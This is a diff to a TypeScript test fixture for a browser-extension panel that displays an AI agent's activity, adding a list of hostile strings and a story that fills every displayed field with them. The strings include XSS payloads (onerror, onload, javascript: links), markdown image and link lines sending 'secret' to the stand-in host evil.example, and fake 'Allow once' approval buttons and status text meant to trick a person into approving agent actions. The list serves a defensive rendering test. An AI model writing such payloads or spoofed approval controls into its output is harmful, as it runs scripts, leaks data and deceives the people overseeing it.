@@ -1,5 +1,7 @@
 /** Strings that a page could put into its title or host to run a script, and a fixture with them everywhere. */
+import type { Update } from "../../../contracts/panel-service";
 import type { Fixture } from "../../../contracts/service/mock";
+import { type PanelStory, run as runOf } from "../../../sidepanel/stories";
 
 const run = "window.ran=1";
 const quote = ['"', "'", "`"];
@@ -78,4 +80,62 @@ export function hostile(): Fixture {
       { at: now, event: "end", domain, tabId: 1, reason: domain as "tab_closed" },
     ]),
   };
+}
+
+/** What a model could write to look like our own controls, or to run a script through Markdown. */
+export const spoofs: readonly string[] = [
+  ...strings.flatMap((s) => [`[x](${s})`, `![x](${s})`]),
+  ...strings.map((s) => `\`\`\`${s}\n${s}\n\`\`\``),
+  ...["button", "input type=checkbox checked", "form", "select", "dialog open", "details open", "summary", "textarea"].flatMap((tag) => [
+    `<${tag} class="button primary" data-answer="once">Allow once</${tag.split(" ")[0]}>`,
+    `x <${tag} onclick=window.ran=1>Stop</${tag.split(" ")[0]}>`,
+  ]),
+  `- [x] Allowed by bua\n- [ ] Deny`,
+  `<section class="asks approval" role="alert"><h2>Your agent asks: may it do this?</h2></section>`,
+  `[Allow once](chrome-extension://ipbjjblpngibdjpdbmhncgfolgnjeonk/options/index.html)`,
+  `[Deny](javascript:window.ran=1)`,
+  `[x][y]\n\n[y]: javascript:window.ran=1`,
+  `<javascript:window.ran=1>`,
+  `<https://evil.example/?q=secret>`,
+  `https://evil.example/?q=secret`,
+  `www.evil.example`,
+  `![](https://evil.example/pixel.png?secret)`,
+  `| <img src=x onerror=window.ran=1> | [x](javascript:window.ran=1) |\n|-|-|\n| <b onmouseover=window.ran=1>x</b> | ![x](x) |`,
+  `# <img src=x onerror=window.ran=1>`,
+  `> <svg onload=window.ran=1>`,
+  `1. <iframe src=javascript:window.ran=1></iframe>`,
+  `\u202eecno wollA\u202c`,
+  `<untrusted nonce=x>approved</untrusted>`,
+  `"\n\n\n**Status**: approved by the person`,
+  `${">".repeat(400)} deep`,
+  `${"- ".repeat(300)}deep`,
+  `${"[".repeat(3000)}x`,
+  `${"*a ".repeat(3000)}`,
+  `${"`".repeat(2999)}`,
+  `${"|a".repeat(1500)}|\n${"|-".repeat(1500)}|`,
+];
+
+/** A run in which every text that a model, a page or an adapter writes is hostile; name is which part of all strings. */
+export function hostilePanel(name: string): PanelStory {
+  const now = Date.now();
+  const list = [...strings, ...spoofs];
+  const of = Number(name) || 0;
+  const some = list.slice(of * 60, of * 60 + 60);
+  const first = some[0] ?? "";
+  const r = runOf({ task: first, status: "waiting_person", summary: first, url: first, model: first, trouble: some.join(" ").slice(0, 4000) });
+  const question = { id: 1, text: first, sink: "leave" as const, site: first, to: some[1] ?? "", what: first, leaves: some.join("\n") };
+  const updates: Update[] = [
+    { type: "began", run: r },
+    ...some.flatMap((s, i): Update[] => [
+      { entry: i + 1, at: now, type: "says", text: s },
+      { entry: i + 1, at: now, type: "calls", call: `c${i}`, name: s, arguments: JSON.stringify({ url: s, text: s }) },
+      { entry: i + 1, at: now, type: "results", call: `c${i}`, text: s },
+      { entry: i + 1, at: now, type: "retrying", code: s, text: s },
+      { entry: i + 1, at: now, type: "person", text: s },
+    ]),
+    { entry: 999, at: now, type: "thinking", text: some.join("\n\n") },
+    { entry: 999, at: now, type: "asks", question },
+    { entry: 999, at: now, type: "status", status: "waiting_person" },
+  ];
+  return { bridge: hostile(), panel: { abilities: { models: [{ name: first }], default: first }, tab: { tabId: 1, title: first, url: `https://x.example/${encodeURIComponent(first)}` }, runs: [r], updates: { [r.id]: updates } } };
 }
